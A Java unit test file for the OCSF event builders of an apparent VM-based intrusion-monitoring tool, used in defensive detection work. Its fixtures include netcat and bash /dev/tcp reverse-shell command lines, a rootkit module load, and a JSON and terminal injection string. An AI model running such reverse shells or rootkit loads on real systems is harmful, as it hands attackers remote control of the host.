package io.chirp.events.build;

import com.fasterxml.jackson.databind.JsonNode;
import io.chirp.events.EventClass;
import io.chirp.events.OcsfEvent;
import io.chirp.events.Severity;
import io.chirp.events.TestSchema;
import io.chirp.events.schema.ClassDef;
import io.chirp.events.validate.EventValidator;
import io.chirp.events.validate.ValidationReport;
import io.chirp.events.validate.Violation;
import org.junit.jupiter.api.Test;

import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;

import static org.assertj.core.api.Assertions.assertThat;

/** Every builder's output validates against the real OCSF 1.8.0 schema, with enum captions that match it. */
class BuildersTest {
    static final Instant NOW = Instant.parse("2026-08-05T10:00:00Z");
    static final EventContext CTX = new EventContext(
            VmIdentity.qemu("hv01.example.net", "web-1", "6c1f8a52-3b1e-4d5c-9a77-0f3f7b2a9c11"), "0.1.0",
            Clock.fixed(NOW, ZoneOffset.UTC));
    static final ProcessInfo SHELL = ProcessInfo.of(4242, "sh").withCmdLine("sh -c id").withPath("/bin/sh")
            .withUser(UserInfo.linux(1000, "alice")).withParent(new ParentInfo(4200, "sshd", "sshd: alice@pts/0"))
            .withCreatedTime(NOW.toEpochMilli() - 5).withUid("6c1f8a52:4242:1754388000000");

    private final EventValidator validator = TestSchema.validator();

    private ValidationReport valid(OcsfEvent e) {
        ValidationReport r = validator.validate(e.json(), e.classUid());
        assertThat(r.errors()).as(e.toJsonLine() + "\n" + r).isEmpty();
        assertThat(r.warnings()).as(r.toString()).noneMatch(w -> w.kind() == Violation.Kind.ENUM_SIBLING_INCORRECT
                || w.kind() == Violation.Kind.VERSION_INCORRECT);
        return r;
    }

    @Test void processLaunchAndTerminate() {
        OcsfEvent launch = ProcessActivity.launch(CTX, SHELL).time(NOW.toEpochMilli() - 3).originalTime("[ 12.345678]")
                .unmapped("chirp", java.util.Map.of("task_struct", "0xffff888003a1c000")).build();
        valid(launch);
        JsonNode j = launch.json();
        assertThat(j.get("type_uid").asLong()).isEqualTo(100701);
        assertThat(j.at("/process/file/path").asText()).isEqualTo("/bin/sh");
        assertThat(j.at("/process/user/name").asText()).isEqualTo("alice");
        assertThat(j.at("/actor/process/pid").asInt()).isEqualTo(4200);      // the parent launched it
        assertThat(j.at("/device/hostname").asText()).isEqualTo("hv01.example.net");
        assertThat(j.at("/device/name").asText()).isEqualTo("web-1");
        assertThat(j.at("/device/type_id").asInt()).isEqualTo(6);
        assertThat(j.at("/device/hypervisor").asText()).isEqualTo("QEMU");
        assertThat(j.at("/metadata/logged_time").asLong()).isEqualTo(NOW.toEpochMilli());
        assertThat(launch.time()).isEqualTo(NOW.toEpochMilli() - 3);
        assertThat(j.at("/unmapped/chirp/task_struct").asText()).startsWith("0xffff");

        OcsfEvent exit = ProcessActivity.terminate(CTX, ProcessInfo.of(77, "sleep")).exitCode(0).build();
        valid(exit);
        assertThat(exit.json().at("/actor/process/pid").asInt()).isEqualTo(77);
        assertThat(exit.time()).isEqualTo(NOW.toEpochMilli());                // no guest time: host time
    }

    @Test void linuxUserProfileIsDeclaredWhenUsed() {
        OcsfEvent e = ProcessActivity.launch(CTX, SHELL).profile("linux/linux_users").build();
        assertThat(e.json().at("/metadata/profiles").toString()).contains("linux/linux_users", "host");
        valid(e);
    }

    @Test void kernelModuleLoadAndUnload() {
        KernelModule m = new KernelModule("evil_rk", 0xffffffffc0a00000L, "/tmp/evil_rk.ko");
        OcsfEvent load = ModuleActivity.load(CTX, m).actor(ProcessInfo.of(900, "insmod").withCmdLine("insmod /tmp/evil_rk.ko"))
                .severity(Severity.MEDIUM).build();
        valid(load);
        assertThat(load.json().at("/module/base_address").asText()).isEqualTo("0xffffffffc0a00000");
        assertThat(load.json().at("/module/file/name").asText()).isEqualTo("evil_rk");
        OcsfEvent unload = ModuleActivity.unload(CTX, new KernelModule("virtio_net", 0xffffffffc0000000L, null)).build();
        valid(unload);
        assertThat(unload.json().at("/actor/app_name").asText()).isEqualTo("kernel");
        assertThat(unload.typeUid()).isEqualTo(100502);
    }

    @Test void networkListenOpenCloseTraffic() {
        ProcessInfo nc = ProcessInfo.of(555, "nc").withCmdLine("nc -e /bin/sh 10.0.2.2 4444");
        Endpoint local = new Endpoint("10.0.2.15", 40000);
        Endpoint remote = new Endpoint("10.0.2.2", 4444);
        OcsfEvent listen = NetworkActivity.listen(CTX, new Endpoint("0.0.0.0", 22), "tcp").process(ProcessInfo.of(300, "sshd")).build();
        valid(listen);
        assertThat(listen.json().at("/dst_endpoint/port").asInt()).isEqualTo(22);
        OcsfEvent open = NetworkActivity.open(CTX, local, remote, NetworkActivity.Direction.OUTBOUND, "tcp").process(nc).build();
        valid(open);
        assertThat(open.json().at("/src_endpoint/ip").asText()).isEqualTo("10.0.2.15");
        assertThat(open.json().at("/dst_endpoint/port").asInt()).isEqualTo(4444);
        assertThat(open.json().at("/actor/process/cmd_line").asText()).contains("-e /bin/sh");
        OcsfEvent inbound = NetworkActivity.close(CTX, new Endpoint("fe80::1", 22), new Endpoint("fe80::2", 50000),
                NetworkActivity.Direction.INBOUND, "tcp").build();
        valid(inbound);
        assertThat(inbound.json().at("/dst_endpoint/port").asInt()).isEqualTo(22);
        valid(NetworkActivity.traffic(CTX, local, remote, NetworkActivity.Direction.OUTBOUND, "udp").build());
    }

    @Test void fileSystemActivity() {
        valid(FileSystemActivity.of(CTX, FileSystemActivity.Activity.CREATE, "/dev/shm/.x").actor(SHELL).build());
        OcsfEvent rename = FileSystemActivity.rename(CTX, "/tmp/a", "/usr/bin/a").build();
        valid(rename);
        assertThat(rename.json().at("/file_result/name").asText()).isEqualTo("a");
        for (FileSystemActivity.Activity a : FileSystemActivity.Activity.values()) {
            valid(FileSystemActivity.of(CTX, a, "/etc/passwd").build());
        }
        // the facts CHIRP reads from the inode: number, owner, size, times
        OcsfEvent cron = FileSystemActivity.of(CTX, FileSystemActivity.Activity.UPDATE, "/etc/cron.d/job")
                .facts(new FileSystemActivity.Facts(1234L, 0, 42L, 1760000000000L, 1760000001000L, 1760000002000L, false))
                .actor(SHELL).build();
        valid(cron);
        assertThat(cron.json().at("/file/uid").asText()).isEqualTo("1234");
        assertThat(cron.json().at("/file/owner/name").asText()).isEqualTo("root");
        assertThat(cron.json().at("/file/modified_time").asLong()).isEqualTo(1760000001000L);
        assertThat(cron.json().at("/unmapped/file_changed_time").asLong()).isEqualTo(1760000002000L);
    }

    @Test void detectionFindingCarriesItsTriggerAsEvidence() {
        OcsfEvent trigger = ProcessActivity.launch(CTX, SHELL.withCmdLine("bash -i >& /dev/tcp/10.0.2.2/4444 0>&1"))
                .profile("linux/linux_users").build();
        Rule rule = new Rule("c67e0c98-4d39-46ee-8f6b-437ebf6b950e", "lnx_shell_susp_rev_shells",
                "Potential Linux Reverse Shell", "Bash reverse shell pattern", java.util.List.of("Reverse Shell"));
        OcsfEvent f = DetectionFinding.of(CTX, rule, Severity.HIGH).evidence(trigger).build();
        valid(f);
        JsonNode j = f.json();
        assertThat(j.get("type_uid").asLong()).isEqualTo(200401);
        assertThat(j.at("/finding_info/analytic/type_id").asInt()).isEqualTo(1);
        assertThat(j.at("/finding_info/analytic/uid").asText()).isEqualTo(rule.uid());
        assertThat(j.at("/finding_info/related_events/0/uid").asText()).isEqualTo(trigger.uid());
        assertThat(j.at("/evidences/0/process/cmd_line").asText()).contains("/dev/tcp/");
        assertThat(j.at("/evidences/0/data/metadata/uid").asText()).isEqualTo(trigger.uid());
        assertThat(j.at("/metadata/profiles").toString()).contains("linux/linux_users");
        assertThat(j.get("severity_id").asInt()).isEqualTo(4);
    }

    @Test void vmStateChanges() {
        OcsfEvent e = VmStateChange.of(CTX, "paused").message("QMP STOP").build();
        valid(e);
        assertThat(e.classUid()).isEqualTo(5019);
        assertThat(e.json().get("state").asText()).isEqualTo("paused");
    }

    @Test void integrityChecks() {
        OcsfEvent e = IntegrityFinding.check(CTX, "syscall_dispatch", "x64_sys_call branch hooked", Severity.CRITICAL,
                java.util.Map.of("site", "0xffffffff81000000"), null).build();
        valid(e);
        assertThat(e.json().at("/finding_info/types/0").asText()).isEqualTo("syscall_dispatch");
        assertThat(e.json().at("/finding_info/analytic/type_id").asInt()).isEqualTo(99);
    }

    @Test void integrityFindings() {
        OcsfEvent p = IntegrityFinding.hiddenProcess(CTX, SHELL, "pid hash").build();
        valid(p);
        assertThat(p.json().at("/finding_info/analytic/uid").asText()).isEqualTo("chirp.integrity.hidden_process");
        assertThat(p.json().at("/evidences/0/process/pid").asInt()).isEqualTo(4242);
        valid(IntegrityFinding.hiddenModule(CTX, new KernelModule("diamorphine", 0xffffffffc0b00000L, null),
                "module kset").build());
        OcsfEvent hook = IntegrityFinding.syscallHook(CTX, 62, "__x64_sys_kill", 0xffffffffc0b01234L, "diamorphine").build();
        valid(hook);
        assertThat(hook.severityId()).isEqualTo(5);
        assertThat(hook.json().at("/evidences/0/data/handler_address").asText()).isEqualTo("0xffffffffc0b01234");
    }

    @Test void hostileGuestStringsStayOneInertJsonLine() {
        String evil = "x\u001b[2J\"\n},{\"class_uid\":0\r\u0000\\";
        OcsfEvent e = ProcessActivity.launch(CTX, ProcessInfo.of(1, evil).withCmdLine(evil)).build();
        valid(e);
        String line = e.toJsonLine();
        assertThat(line).doesNotContain("\n", "\r", "\u001b", "\u0000");
        OcsfEvent back = OcsfEvent.parse(line);
        assertThat(back.json().at("/process/cmd_line").asText()).isEqualTo(evil);
        assertThat(back.classUid()).isEqualTo(1007);
    }

    @Test void eventsAreImmutable() {
        OcsfEvent e = ProcessActivity.launch(CTX, SHELL).build();
        e.json().put("class_uid", 0);
        assertThat(e.classUid()).isEqualTo(1007);
    }

    @Test void classesActivitiesAndSeveritiesMatchTheSchema() {
        for (EventClass c : EventClass.values()) {
            ClassDef d = TestSchema.schema().classByUid(c.uid()).orElseThrow();
            assertThat(d.name()).isEqualTo(c.schemaName());
            assertThat(d.caption()).isEqualTo(c.caption());
            assertThat(d.categoryUid()).isEqualTo(c.categoryUid());
            assertThat(d.categoryName()).isEqualTo(c.categoryName());
            assertThat(EventClass.parse(Integer.toString(c.uid()))).isEqualTo(c);
            assertThat(EventClass.parse(c.schemaName())).isEqualTo(c);
        }
        assertThat(EventClass.parse("process")).isEqualTo(EventClass.PROCESS_ACTIVITY);
        assertThat(EventClass.parse("Network Activity")).isEqualTo(EventClass.NETWORK_ACTIVITY);
        assertThat(EventClass.parse("detection")).isEqualTo(EventClass.DETECTION_FINDING);
        var sev = TestSchema.schema().classByUid(1007).orElseThrow().attributes().get("severity_id").enumCaptions();
        for (Severity s : Severity.values()) assertThat(sev.get(Integer.toString(s.id()))).isEqualTo(s.caption());
    }
}
